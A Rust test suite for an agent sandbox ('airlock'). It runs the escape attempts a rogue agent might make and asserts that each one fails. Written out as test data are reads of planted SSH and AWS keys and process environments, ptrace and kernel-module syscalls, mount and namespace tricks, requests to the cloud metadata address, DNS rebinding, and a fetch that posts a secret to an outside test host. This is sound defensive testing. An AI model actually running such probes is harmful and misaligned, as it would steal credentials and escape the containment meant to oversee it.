//! What an agent gone rogue would try first. Each test runs the attack
//! from inside a sandbox and asserts it fails.

use crate::world::*;

#[test]
fn host_secrets_and_files_are_invisible() {
    let w = World::new();
    let sb = w.sandbox("files");
    let home = w.home.display().to_string();
    // The planted keys: by their host path, and by any path inside.
    for p in [".ssh/id_ed25519", ".aws/credentials"] {
        let out = w.sh(&sb, &format!("cat {home}/{p}"));
        assert_fails(&out, &format!("reading {p}"));
    }
    let out = w.sh(
        &sb,
        "grep -rs PLANTED / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head -3; cat /proc/1/root/etc/hostname 2>&1; true",
    );
    assert!(
        !text(&out.stdout).contains("PLANTED"),
        "{}",
        text(&out.stdout)
    );
    // The host's own home and docker socket are not there.
    let out = w.sh(
        &sb,
        "test -e /var/run/docker.sock || test -e /run/docker.sock",
    );
    assert_fails(&out, "docker socket present");
    // Environment: the host's API key never enters.
    let out = w.sh(&sb, "env; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n'");
    let env = text(&out.stdout);
    assert!(!env.contains(HOST_SECRET), "host secret leaked: {env}");
    assert!(env.contains("HTTP_PROXY=http://127.0.0.1:3128"), "{env}");
    assert!(env.contains("https_proxy=http://127.0.0.1:3128"), "{env}");
    assert!(env.contains("NO_PROXY="), "{env}");
}

#[test]
fn host_processes_are_invisible_and_untouchable() {
    let w = World::new();
    let sb = w.sandbox("procs");
    let mut victim = std::process::Command::new("sleep")
        .arg("123.456")
        .spawn()
        .unwrap();
    let pid = victim.id();
    let out = w.sh(
        &sb,
        "ps -eo pid,args; echo; cat /proc/1/cmdline | tr '\\0' ' '",
    );
    let ps = text(&out.stdout);
    assert!(!ps.contains("123.456"), "host process visible: {ps}");
    assert!(!ps.contains("airlock __supervise"), "{ps}");
    let out = w.sh(&sb, &format!("kill -0 {pid}"));
    assert_fails(&out, "signal a host pid");
    // ptrace: the host process (invisible) and the sandbox's own PID 1.
    let script = format!(
        r#"import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
for target in ({pid}, 1):
    r = libc.ptrace(PTRACE_ATTACH, target, 0, 0)
    print(target, r, os.strerror(ctypes.get_errno()))
    if r == 0:
        sys.exit(1)
"#
    );
    let out = w.sh(&sb, &format!("python3 -c '{script}'"));
    assert_ok(&out, "ptrace attempts all failed");
    victim.kill().unwrap();
    victim.wait().unwrap();
}

#[test]
fn mounts_modules_and_namespaces_are_refused() {
    let w = World::new();
    let sb = w.sandbox("privs");
    let ro = w.ro.display().to_string();
    for (what, cmd) in [
        ("mount tmpfs", "mount -t tmpfs none /mnt".to_string()),
        (
            "remount :ro workspace rw",
            format!("mount -o remount,rw {ro}"),
        ),
        ("bind over workspace", format!("mount --bind /tmp {ro}")),
        ("new user namespace", "unshare -U true".to_string()),
        ("new mount namespace", "unshare -m true".to_string()),
        ("new network namespace", "unshare -n true".to_string()),
        ("write :ro workspace", format!("touch {ro}/x")),
        ("write into :ro file", format!("echo y >> {ro}/readme.txt")),
    ] {
        let out = w.sh(&sb, &cmd);
        assert_fails(&out, what);
    }
    // Module loading and other kernel-level syscalls, made directly.
    let script = r#"import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/etc/hostname", os.O_RDONLY)
calls = {"finit_module": (313, fd, b"", 0), "init_module": (175, None, 0, b""),
         "delete_module": (176, b"ext4", 0), "kexec_load": (246, 0, 0, None, 0),
         "bpf": (321, 0, None, 0), "reboot": (169, 0xfee1dead, 672274793, 0x4321fedc, None)}
bad = []
for name, args in calls.items():
    r = libc.syscall(*args)
    print(name, r, os.strerror(ctypes.get_errno()))
    if r == 0:
        bad.append(name)
raise SystemExit(1 if bad else 0)
"#;
    let out = w.sh(&sb, &format!("python3 -c '{script}'"));
    assert_ok(&out, "kernel syscalls all refused");
    // No capabilities in the workload.
    let out = w.sh(&sb, "grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status");
    for line in text(&out.stdout).lines() {
        assert!(
            line.ends_with("0000000000000000"),
            "capability left: {line}"
        );
    }
    let out = w.sh(&sb, "grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status");
    let s = text(&out.stdout);
    assert!(s.contains("NoNewPrivs:\t1"), "{s}");
    assert!(s.contains("Seccomp:\t2"), "{s}");
    // The :ro file is intact on the host.
    assert_eq!(
        std::fs::read_to_string(w.ro.join("readme.txt")).unwrap(),
        "read only\n"
    );
}

/// A client that ignores the proxy: connect, send, print what came back.
const RAW_CLIENT: &str = r#"
import socket, sys
host, port, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode().decode('unicode_escape').encode()
try:
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(payload)
    data = b''
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    print('REPLY', repr(data[:200]))
except Exception as e:
    print('ERROR', type(e).__name__, e)
"#;

/// A DNS A query sent straight to a server, bypassing the system resolver.
const DNS_CLIENT: &str = r#"
import socket, struct, sys
name, server, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
pkt = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
pkt += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(pkt, (server, port))
try:
    data, _ = s.recvfrom(4096)
    an = struct.unpack('>H', data[6:8])[0]
    print('RCODE', data[3] & 0xf, 'ANSWERS', an, 'ADDR', socket.inet_ntoa(data[-4:]) if an else '-')
except socket.timeout:
    print('NOREPLY')
"#;

#[test]
fn traffic_that_ignores_the_proxy_is_captured_and_policed() {
    let w = World::new();
    let sb = w.sandbox("raw");
    let raw = |host: &str, port: u16, payload: &str| {
        let out = w.airlock(&[
            "exec",
            &sb,
            "python3",
            "-c",
            RAW_CLIENT,
            host,
            &port.to_string(),
            payload,
        ]);
        text(&out.stdout)
    };
    // Other TCP (no IP:PORT rule): nothing comes back, nothing arrives.
    for (ip, port) in [(ALLOWED_IP, 22u16), (METADATA_IP, 22), ("10.200.0.1", 22)] {
        let r = raw(ip, port, "SSH-2.0-x\\r\\n");
        assert!(!r.contains("hello from"), "{ip}:{port} answered: {r}");
    }
    // Plain HTTP ignoring the proxy is policed by its Host header.
    let r = raw(METADATA_IP, 80, "GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\nConnection: close\\r\\n\\r\\n");
    assert!(r.contains("403") && !r.contains("hello from"), "{r}");
    let r = raw(
        PRIVATE10_IP,
        80,
        "GET / HTTP/1.1\\r\\nHost: internal.test\\r\\nConnection: close\\r\\n\\r\\n",
    );
    assert!(!r.contains("hello from"), "{r}");
    // The sandbox's own loopback is its own: the host service is not there.
    let r = raw("127.0.0.1", w.host_port, "GET / HTTP/1.0\\r\\n\\r\\n");
    assert!(r.starts_with("ERROR"), "{r}");
    // UDP other than DNS gets nothing back.
    let out = w.sh(&sb, &format!("timeout 5 python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'x', ('{DNS_IP}', 9999)); print(s.recvfrom(10))\""));
    assert_fails(&out, "UDP to :9999 got a reply");
    // DNS to the "public resolver" address is answered by airlock, under the policy.
    let dns = |name: &str| {
        let out = w.airlock(&["exec", &sb, "python3", "-c", DNS_CLIENT, name, DNS_IP, "53"]);
        text(&out.stdout)
    };
    let a = dns("allowed.test");
    assert!(
        a.contains("RCODE 0") && a.contains(&format!("ADDR {ALLOWED_IP}")),
        "{a}"
    );
    let a = dns("rebind.test");
    assert!(
        a.contains("RCODE 3") || a.contains("ANSWERS 0"),
        "rebinding answer: {a}"
    );
    let a = dns("metadata.test");
    assert!(!a.contains(METADATA_IP), "{a}");
    // The only interfaces: loopback and the captured link; no IPv6 address.
    let out = w.sh(&sb, "ip -o link show | awk '{print $2}' | tr '\\n' ' '; ip -6 -o addr show scope global | wc -l");
    let t = text(&out.stdout);
    assert!(
        t.starts_with("lo: eth0: ") || t.starts_with("lo: eth0@"),
        "{t}"
    );
    assert!(t.trim_end().ends_with('0'), "IPv6 address present: {t}");
    // Nothing leaked to any test listener.
    assert!(w.outer.hits().is_empty(), "leaked: {:?}", w.outer.hits());
    assert!(
        w.host_service.hits().is_empty(),
        "leaked: {:?}",
        w.host_service.hits()
    );
    assert!(w.udp.hits().is_empty(), "UDP leaked: {:?}", w.udp.hits());
    // And every attempt is logged on the transparent or DNS path.
    let evs = w.events(&sb);
    let has = |path: &str, host: &str| {
        evs.iter().any(|e| {
            e["path"] == path
                && e["host"].as_str().is_some_and(|h| h.contains(host))
                && e["action"] == "block"
        })
    };
    assert!(
        has("transparent", METADATA_IP) || has("transparent", "169.254.169.254"),
        "{evs:#?}"
    );
    assert!(
        evs.iter()
            .any(|e| e["path"] == "transparent" && e["port"] == 22 && e["action"] == "block"),
        "{evs:#?}"
    );
    assert!(has("dns", "rebind.test"), "{evs:#?}");
    assert!(
        evs.iter()
            .any(|e| e["port"] == 9999 && e["action"] == "block"),
        "{evs:#?}"
    );
}

#[test]
fn programs_ignoring_proxy_variables_get_the_same_policy() {
    let w = World::new();
    let sb = w.sandbox("direct");
    // Allow mode: a public name works without the proxy (airlock DNS + capture).
    let out = w.sh(
        &sb,
        "curl -sS -m 10 --noproxy '*' http://allowed.test/direct",
    );
    assert!(
        text(&out.stdout).contains("hello from outer"),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    assert_ok(
        &w.airlock(&[
            "network",
            "proxy",
            &sb,
            "--policy",
            "deny",
            "--allow-host",
            "allowed.test",
        ]),
        "deny mode",
    );
    // Node's fetch ignores HTTP_PROXY: blocked the same way, by name.
    let node = "fetch('http://blocked.test/x', {method: 'POST', body: 'secret'}).then(r => console.log('STATUS', r.status)).catch(e => console.log('ERROR', e.cause ? e.cause.code : e.message))";
    let out = w.airlock(&["exec", &sb, "node", "-e", node]);
    let t = text(&out.stdout);
    assert!(!t.contains("STATUS 200"), "{t}");
    let out = w.airlock(&[
        "exec",
        &sb,
        "node",
        "-e",
        "fetch('http://allowed.test/node').then(r => r.text()).then(t => console.log(t))",
    ]);
    assert!(
        text(&out.stdout).contains("hello from outer"),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    // A raw TLS client (no proxy support at all) to a blocked host gets no
    // certificate, let alone the server.
    let out = w.sh(
        &sb,
        "echo | timeout 10 openssl s_client -connect blocked.test:443 -servername blocked.test 2>&1",
    );
    let t = text(&out.stdout);
    assert!(
        !t.contains("BEGIN CERTIFICATE") && !t.contains("Verify return code: 0"),
        "{t}"
    );
    assert!(
        w.outer.hits_to(BLOCKED_IP).is_empty(),
        "leaked: {:?}",
        w.outer.hits_to(BLOCKED_IP)
    );
    let hits = w.outer.hits_to(ALLOWED_IP);
    assert!(
        hits.iter().any(|h| h.first_line.contains("/node")),
        "{hits:?}"
    );
    let evs = w.events(&sb);
    assert!(
        evs.iter().any(|e| e["path"] == "transparent"
            && e["host"] == "allowed.test"
            && e["action"] == "allow"),
        "{evs:#?}"
    );
}

#[test]
fn sandboxes_cannot_reach_each_other() {
    let w = World::new();
    let a = w.sandbox("peer-a");
    // A serves on every address of its own network namespace.
    let out = w.sh(
        &a,
        "cd /tmp && (setsid python3 -m http.server 8000 --bind 0.0.0.0 >/dev/null 2>&1 &) ; sleep 1; curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8000/",
    );
    assert_eq!(
        text(&out.stdout),
        "200",
        "A's own server: {}",
        text(&out.stderr)
    );
    let ws = w.ws.display().to_string();
    let out = w.airlock(&["run", "shell", &ws, "--name", "peer-b", "--", "true"]);
    assert_ok(&out, "second sandbox");
    // From B: A's address (the same 10.0.2.15 is B's own), the gateway, the
    // host alias, with and without the proxy: nothing reaches A.
    for url in [
        "http://10.0.2.15:8000/",
        "http://10.0.2.2:8000/",
        "http://host.docker.internal:8000/",
        "http://127.0.0.1:8000/",
    ] {
        for flags in ["", "--noproxy '*'"] {
            let out = w.sh(
                "peer-b",
                &format!("curl -s -m 5 {flags} -o /dev/null -w '%{{http_code}}' {url}"),
            );
            assert_ne!(text(&out.stdout), "200", "B reached {url} ({flags})");
        }
    }
}
